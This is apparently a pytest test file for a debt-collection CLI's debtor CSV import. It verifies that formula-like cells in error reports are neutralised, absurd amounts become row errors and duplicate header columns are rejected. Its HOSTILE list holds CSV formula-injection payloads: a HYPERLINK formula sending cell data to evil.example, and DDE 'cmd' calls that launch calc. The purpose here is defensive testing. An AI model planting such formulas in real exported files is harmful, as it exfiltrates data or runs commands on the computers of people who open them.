"""Finding 10: the debtor import (`callboard import debtors`) put spreadsheet formulas from the
file into its error report raw (a cell `=HYPERLINK(...)` or `+cmd|...` runs when the report is
opened); `1e30` or a 29-digit amount crashed the import with a traceback and no report; a
column named twice in the header was silently dropped. Now every CSV the product writes goes
through crm_core.csv_safe (a formula-like cell gets an apostrophe before it), such amounts are
row errors naming the column, and a duplicate column is a file-level error naming it."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from sqlalchemy import create_engine, text

from callboard.cli import main
from crm_core import csv_safe

HEADER = "external_ref,first_name,last_name,phones,creditor,reference,balance,due_date\n"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
]


@pytest.fixture
def config(tmp_path: Path) -> Path:
    path = tmp_path / "callboard.toml"
    path.write_text(
        f'[database]\nurl = "sqlite+aiosqlite:///{tmp_path / "cb.db"}"\n'
        '[center]\ndefault_region = "GB"\n'
    )
    assert main(["--config", str(path), "migrate"]) == 0
    return path


def _import(config: Path, file: Path, *more: str) -> int:
    return main(["--config", str(config), "import", "debtors", str(file), *more])


def _report(file: Path) -> list[list[str]]:
    with file.with_name(file.name + ".errors.csv").open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def _stored(config: Path, sql: str) -> list[tuple]:
    url = config.read_text().split('"')[1].replace("sqlite+aiosqlite", "sqlite")
    engine = create_engine(url)
    with engine.connect() as connection:
        return list(connection.execute(text(sql)))


def test_formulas_in_the_error_report_are_neutralised(config, tmp_path, capsys) -> None:
    file = tmp_path / "debtors.csv"
    rows = [HEADER]
    for n, formula in enumerate(HOSTILE):
        quoted = '"' + formula.replace('"', '""') + '"'
        rows.append(f"C{n},Ivan,Petrov,{quoted},Acme,R-{n},{quoted},{quoted},{quoted}\n")
    file.write_text("".join(rows), encoding="utf-8")
    assert _import(config, file) == 1
    report = _report(file)
    assert report[0] == ["row", "column", "value", "reason"]
    values = [cell for row in report[1:] for cell in row]
    assert any(formula in cell for cell in values for formula in HOSTILE)  # the values are there
    for cell in values:
        assert cell[:1] not in csv_safe.FORMULA_STARTS, cell  # ... but none runs
    assert {csv_safe.unneutralise(row[2]) for row in report[1:]} >= set(HOSTILE)


def test_stored_fields_keep_their_text_and_phone_numbers_their_plus(config, tmp_path) -> None:
    file = tmp_path / "debtors.csv"
    file.write_text(
        HEADER + 'C1,"=1+1",Petrov,+447911123456,Acme,R-1,10.00,2026-09-01\n', encoding="utf-8"
    )
    assert _import(config, file) == 0
    assert _stored(config, "SELECT first_name FROM contacts") == [("=1+1",)]
    assert _stored(config, "SELECT e164 FROM phones") == [("+447911123456",)]


@pytest.mark.parametrize(
    "amount", ["1e30", "9" * 29, "NaN", "Infinity", "-Infinity", "1E+400", "sNaN", "١٠٠"]
)
def test_absurd_amounts_are_row_errors_naming_the_column(config, tmp_path, capsys, amount):
    file = tmp_path / "debtors.csv"
    file.write_text(
        HEADER + f"C1,Ivan,Petrov,,Acme,R-1,{amount},2026-09-01\n"
        "C2,Olga,Ivanova,,Acme,R-2,10.00,9999-12-31\n",
        encoding="utf-8",
    )
    assert _import(config, file) == 1
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err
    report = _report(file)
    assert [row[:3] for row in report[1:]] == [
        ["2", "balance", csv_safe.cell(amount)],  # "-Infinity" comes back neutralised
        ["3", "due_date", "9999-12-31"],
    ]


def test_a_column_named_twice_is_a_file_error_naming_it(config, tmp_path, capsys) -> None:
    file = tmp_path / "debtors.csv"
    file.write_text(
        "external_ref,first_name,balance,creditor,reference,balance,due_date\n"
        "C1,Ivan,10.00,Acme,R-1,99999.00,2026-09-01\n",
        encoding="utf-8",
    )
    assert _import(config, file) == 2
    assert "duplicate columns in the header: 'balance'" in capsys.readouterr().err
    assert _stored(config, "SELECT count(*) FROM debts") == [(0,)]
